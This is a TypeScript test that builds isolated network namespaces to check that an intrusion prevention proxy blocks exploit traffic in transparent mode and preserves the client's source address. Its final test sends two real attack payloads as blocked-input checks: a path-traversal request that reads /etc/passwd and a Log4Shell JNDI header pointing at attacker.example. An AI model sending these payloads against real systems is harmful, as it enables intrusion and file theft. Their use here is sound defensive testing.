import assert from 'node:assert/strict';
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { repoRoot, waitFor } from './support/real-processes.ts';

/**
 * Transparent mode between two network namespaces this test creates: client ns -> server ns.
 * In the server namespace run the protected service (10.201.x.2:8080) and the IPS module, which
 * installs the nftables redirect itself. The client talks to the service's own address and
 * port; exploits are blocked, benign traffic reaches the service, and the proxy sees the
 * client's real source address.
 */
function can(): string | false {
  if (process.getuid?.() !== 0) return 'needs root';
  try {
    execFileSync('ip', ['netns', 'list'], { stdio: 'ignore' });
    execFileSync('nft', ['--version'], { stdio: 'ignore' });
    execFileSync('curl', ['--version'], { stdio: 'ignore' });
  } catch {
    return 'needs ip, nft and curl';
  }
  return false;
}
const skip = can();
const id = process.pid % 200;
const C = `pips-c${process.pid}`;
const S = `pips-s${process.pid}`;
const clientIp = `10.201.${id}.1`;
const serverIp = `10.201.${id}.2`;
const dir = mkdtempSync(join(tmpdir(), 'ips-transparent-'));
const procs: ChildProcess[] = [];
const upstreamSeen: { remote: string; url: string }[] = [];
const events: Record<string, unknown>[] = [];

function sh(...args: string[]): string {
  return execFileSync(args[0]!, args.slice(1), { encoding: 'utf8' });
}

function lines(p: ChildProcess, onLine: (o: Record<string, unknown>) => void): void {
  let buf = '';
  p.stdout!.on('data', (c) => {
    buf += c;
    let nl: number;
    while ((nl = buf.indexOf('\n')) >= 0) {
      const l = buf.slice(0, nl);
      buf = buf.slice(nl + 1);
      try {
        onLine(JSON.parse(l) as Record<string, unknown>);
      } catch {
        // not ours
      }
    }
  });
}

function curl(path: string, headers: string[] = []): number {
  const out = sh(
    'ip',
    'netns',
    'exec',
    C,
    'curl',
    '-s',
    '--path-as-is',
    '-o',
    '/dev/null',
    '-w',
    '%{http_code}',
    '--max-time',
    '10',
    ...headers.flatMap((h) => ['-H', h]),
    `http://${serverIp}:8080${path}`,
  );
  return Number(out);
}

before(async () => {
  if (skip) return;
  sh('ip', 'netns', 'add', C);
  sh('ip', 'netns', 'add', S);
  sh('ip', 'link', 'add', `pvc${id}`, 'type', 'veth', 'peer', 'name', `pvs${id}`);
  sh('ip', 'link', 'set', `pvc${id}`, 'netns', C);
  sh('ip', 'link', 'set', `pvs${id}`, 'netns', S);
  sh('ip', '-n', C, 'addr', 'add', `${clientIp}/24`, 'dev', `pvc${id}`);
  sh('ip', '-n', S, 'addr', 'add', `${serverIp}/24`, 'dev', `pvs${id}`);
  for (const [ns, dev] of [
    [C, `pvc${id}`],
    [S, `pvs${id}`],
  ] as const) {
    sh('ip', '-n', ns, 'link', 'set', dev, 'up');
    sh('ip', '-n', ns, 'link', 'set', 'lo', 'up');
  }
  const up = spawn(
    'ip',
    [
      'netns',
      'exec',
      S,
      process.execPath,
      '-e',
      `require('http').createServer((q,s)=>{q.resume();q.on('end',()=>{process.stdout.write(JSON.stringify({remote:q.socket.remoteAddress,url:q.url})+'\\n');s.end('service ok')})}).listen(8080,'${serverIp}',()=>process.stdout.write('{"ready":true}\\n'))`,
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  procs.push(up);
  lines(up, (o) => {
    if (o.url) upstreamSeen.push(o as { remote: string; url: string });
  });
  const settings = {
    services: [
      { name: 'svc', listen: { host: '0.0.0.0', port: 15001 }, upstream: { host: serverIp, port: 8080 }, transparent: { port: 8080 } },
    ],
    ruleSets: { patches: { dir: join(repoRoot, 'rules/ips') } },
  };
  writeFileSync(join(dir, 'settings.json'), JSON.stringify(settings));
  const proxy = spawn(
    'ip',
    [
      'netns',
      'exec',
      S,
      process.execPath,
      '--import',
      'tsx',
      join(repoRoot, 'bench/ips-proxy/palisade-proxy-process.ts'),
      join(dir, 'settings.json'),
    ],
    { cwd: repoRoot, stdio: ['ignore', 'pipe', 'inherit'] },
  );
  procs.push(proxy);
  let ready = false;
  lines(proxy, (o) => {
    if (o.ready) ready = true;
    else events.push(o);
  });
  await waitFor('proxy ready and redirect installed', () => ready, 60_000);
});

after(async () => {
  for (const p of procs) p.kill('SIGTERM');
  await new Promise((r) => setTimeout(r, 500));
  if (!skip) {
    for (const ns of [C, S]) {
      try {
        sh('ip', 'netns', 'del', ns);
      } catch {
        // already gone
      }
    }
  }
  rmSync(dir, { recursive: true, force: true });
});

test('transparent mode: the redirect is in place in the server namespace', { skip }, () => {
  const table = sh('ip', 'netns', 'exec', S, 'nft', 'list', 'table', 'inet', 'palisade_ips');
  assert.match(table, /tcp dport 8080 redirect to :15001/);
});

test('transparent mode: benign passes to the service, exploits are blocked, the client source is preserved', { skip }, async () => {
  assert.equal(curl('/products?page=2'), 200);
  await waitFor('service saw the benign request', () => upstreamSeen.some((s) => s.url === '/products?page=2'), 5000);
  const before = upstreamSeen.length;
  assert.equal(curl('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'), 403);
  assert.equal(curl('/', ['User-Agent: ${jndi:ldap://attacker.example/a}']), 403);
  assert.equal(upstreamSeen.length, before, 'no exploit reached the service');
  const ev = await waitFor('blocked event', () => events.find((e) => e.type === 'ips.blocked'), 5000);
  const d = ev.details as Record<string, unknown>;
  assert.equal(d.peerAddress, clientIp, 'the proxy sees the real client address, not a NAT address');
  assert.equal(d.clientAddress, clientIp);
});
